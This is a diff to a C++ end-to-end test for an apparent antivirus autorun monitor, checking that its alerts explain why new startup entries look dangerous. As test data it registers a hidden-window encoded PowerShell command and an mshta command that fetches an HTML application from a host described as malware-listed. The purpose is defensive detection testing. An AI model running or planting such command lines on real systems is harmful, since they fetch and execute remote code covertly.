@@ -3,7 +3,9 @@
 // the user's choice (Shield me / Ignore, once or always) is carried out and remembered.
 #include <gtest/gtest.h>
 
+#include <algorithm>
 #include <chrono>
+#include <map>
 
 #include "common/Files.h"
 #include "config/Options.h"
@@ -58,6 +60,44 @@ TEST(ShieldAtWork, AsksAboutANewAutorunEntryAndRemembersTheAnswer) {
     EXPECT_TRUE(Contains(ChildTexts(alert), "Malicious file is found in system folder: evil.exe."));
     Choose(alert, {}, "ignore");
     run.Remove("E2E Evil");
+
+    // What an entry runs and why that looks dangerous: an encoded PowerShell in a hidden window,
+    // and mshta fetching from a host of the shipped malicious-hosts table (the red alert); a
+    // program in Program Files is asked about without reasons.
+    const std::string host = "aadcdn.msonline.at";
+    run.Add("E2E Encoded", "powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand SQBFAFgA");
+    run.Add("E2E Hta", "mshta.exe http://" + host + "/update.hta");
+    run.Add("E2E Vendor", "\"C:\\Program Files\\Vendor\\vendor.exe\" /background");
+    std::map<std::string, std::vector<std::string>> shown;
+    for (int i = 0; i < 3; ++i) {
+        alert = WaitForAlert(shield);
+        ASSERT_NE(alert, nullptr) << "alerts so far: " << shown.size();
+        const std::vector<std::string> texts = ChildTexts(alert);
+        const std::string all = Joined(texts);
+        const std::string entry = all.find("-EncodedCommand") != std::string::npos ? "encoded"
+                                  : all.find("update.hta") != std::string::npos  ? "hta"
+                                                                                 : "vendor";
+        if (entry == "hta") SaveWindowPicture(alert, ScreenshotPath("alert-malicious-host.bmp"));
+        if (entry == "encoded") SaveWindowPicture(alert, ScreenshotPath("alert-why-dangerous.bmp"));
+        shown[entry] = texts;
+        Choose(alert, {}, "ignore");
+    }
+    EXPECT_TRUE(Contains(shown["encoded"], "Why it looks dangerous: PowerShell runs an encoded command that hides what "
+                                           "it does; PowerShell runs in a hidden window"))
+        << Joined(shown["encoded"]);
+    EXPECT_TRUE(Contains(shown["hta"], "Why it looks dangerous: " + host +
+                                           " is listed by URLhaus as a host that spread malware; mshta runs an HTML "
+                                           "application from the Internet; its command line holds a web address"))
+        << Joined(shown["hta"]);
+    // The description keeps the name the lists hold; the command's line names the program that runs.
+    EXPECT_TRUE(Contains(shown["hta"], "Unidentified program //" + host + "/update.hta was added to the autorun list"));
+    const std::string command = "\\mshta.exe http://" + host + "/update.hta";
+    EXPECT_TRUE(std::any_of(shown["hta"].begin(), shown["hta"].end(), [&](const std::string& text) {
+        return text.starts_with("C:\\") && text.ends_with(command);
+    })) << Joined(shown["hta"]);
+    EXPECT_TRUE(Contains(shown["vendor"], "\"C:\\Program Files\\Vendor\\vendor.exe\" /background"))
+        << Joined(shown["vendor"]);
+    for (const std::string& text : shown["vendor"]) EXPECT_EQ(text.find("Why it looks"), std::string::npos) << text;
 
     // The same program under a new entry: the white list drops it without asking. A new entry
     // afterwards is asked about, so the monitor was running all along.
